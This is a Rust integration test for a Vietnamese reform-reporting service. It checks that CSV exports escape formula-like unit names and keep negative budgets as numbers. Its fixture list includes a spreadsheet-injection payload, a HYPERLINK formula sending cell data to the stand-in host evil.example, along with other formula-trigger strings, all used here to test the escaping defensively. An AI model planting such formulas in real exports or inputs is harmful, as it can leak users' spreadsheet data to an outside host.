//! The CSV export opens in a spreadsheet: names offices typed cannot run as formulas
//! there (OWASP's CSV Injection advice), while figures, negative ones too, stay numbers.

mod common;

use cchc_proto::events::v1::{BudgetLineFigures, BudgetSubmitted, UnitCreated};
use cchc_proto::reporting::v1::reporting_service_server::ReportingService;
use cchc_proto::reporting::v1::{
    CreatePlanRequest, ExportReportRequest, Plan, PlanPeriod, StartReportRequest,
};
use chrono::{TimeZone, Utc};
use common::*;
use uuid::Uuid;

/// Names as a careless or hostile office might enter them, and how each must appear.
const NAMES: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")",
        "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Bấm vào đây\"\")\"",
    ),
    ("@SUM(1)", "\"'@SUM(1)\""),
    ("+84 Trường THPT", "\"'+84 Trường THPT\""),
    ("-1+2", "\"'-1+2\""),
    ("\t=1+1", "\"'\t=1+1\""),
    ("\r=1+1", "\"'\r=1+1\""),
    // An ordinary name, and one with a sign inside, are written as before.
    ("Trường THPT Lê Quý Đôn", "Trường THPT Lê Quý Đôn"),
    ("Trường THPT A-1", "Trường THPT A-1"),
];

#[tokio::test]
async fn names_that_look_like_formulas_are_neutralised_and_figures_stay_numbers() {
    let svc = service().await;
    let at = Utc.with_ymd_and_hms(2020, 3, 1, 0, 0, 0).unwrap();
    let mut units = Vec::new();
    for (i, (name, _)) in NAMES.iter().enumerate() {
        let id = Uuid::from_u128(0x0C5F_0000 + i as u128);
        svc.apply(&envelope_at(
            "gateway",
            &UnitCreated {
                unit_id: id.to_string(),
                name: (*name).into(),
                kind: "high_school".into(),
                parent_id: String::new(),
            },
            at,
        ))
        .await;
        units.push(id);
    }
    // A negative budget (a refund booked against the year) is a figure, not text.
    svc.apply(&envelope_at(
        "activity",
        &BudgetSubmitted {
            submission_id: Uuid::new_v4().to_string(),
            unit_id: units[1].to_string(),
            year: 2020,
            revision: 1,
            lines: vec![BudgetLineFigures {
                item: "Hoàn ứng".into(),
                funding_source: "Ngân sách CCHC".into(),
                planned_vnd: -5_000_000,
                spent_vnd: -4_000_000,
            }],
            planned_total_vnd: -5_000_000,
            spent_total_vnd: -4_000_000,
            ..Default::default()
        },
        at,
    ))
    .await;
    let plan = svc
        .api
        .create_plan(as_office(CreatePlanRequest {
            plan: Some(Plan {
                number_symbol: "120/KH-SGDĐT-VP".into(),
                year: 2020,
                title: "Tuyên truyền về công tác Cải cách hành chính năm 2020".into(),
                issuing_body: "Sở Giáo dục và Đào tạo".into(),
                governing_body: "UBND thành phố Hải Phòng".into(),
                unit_ids: units.iter().map(Uuid::to_string).collect(),
                periods: vec![PlanPeriod {
                    key: "2020".into(),
                    due_date: "2020-12-15".into(),
                    ..Default::default()
                }],
                ..Default::default()
            }),
            idempotency_key: String::new(),
        }))
        .await
        .unwrap()
        .into_inner();
    let report = svc
        .api
        .start_report(as_office(StartReportRequest {
            plan_id: plan.id,
            period: "2020".into(),
            ..Default::default()
        }))
        .await
        .unwrap()
        .into_inner();
    svc.work_reports().await;
    let csv = svc
        .api
        .export_report(as_office(ExportReportRequest {
            report_id: report.id.clone(),
            format: "csv".into(),
        }))
        .await
        .unwrap()
        .into_inner()
        .content;
    let csv = String::from_utf8(csv).unwrap();

    for ((_, written), id) in NAMES.iter().zip(&units) {
        let cell = format!("{id},{written},high_school,");
        assert!(csv.contains(&cell), "{cell:?} not in\n{csv}");
    }
    // UTF-8 with its byte-order mark, CRLF line ends, for spreadsheets on Windows.
    let csv = csv
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark")
        .to_owned();
    assert!(csv.ends_with("\r\n") && !csv.replace("\r\n", "").contains('\n'));
    // No record starts a cell with a formula character outside quotes.
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(
                !cell.starts_with(['=', '@', '+', '\t']),
                "{cell:?} in {line:?}"
            );
        }
    }
    // The negative budget stays two bare numbers, at the end of the unit's row; no
    // total row mixes text into the figures' columns.
    let row = csv
        .lines()
        .find(|l| l.starts_with(&units[1].to_string()))
        .unwrap();
    assert!(row.ends_with(",-5000000,-4000000"), "{row}");
    assert!(!csv.contains("TỔNG CỘNG"), "{csv}");
    assert_eq!(csv.lines().count(), 1 + units.len());

    // The export is still reproducible: rendering the stored snapshot again gives the
    // stored bytes.
    let json = svc
        .api
        .export_report(as_office(ExportReportRequest {
            report_id: report.id,
            format: "json".into(),
        }))
        .await
        .unwrap()
        .into_inner()
        .content;
    let snapshot: cchc_reporting::report::Snapshot = serde_json::from_slice(&json).unwrap();
    let again = cchc_reporting::report::export::render(&snapshot, "csv").unwrap();
    assert_eq!(
        String::from_utf8(again.content).unwrap(),
        format!("\u{feff}{csv}")
    );
}
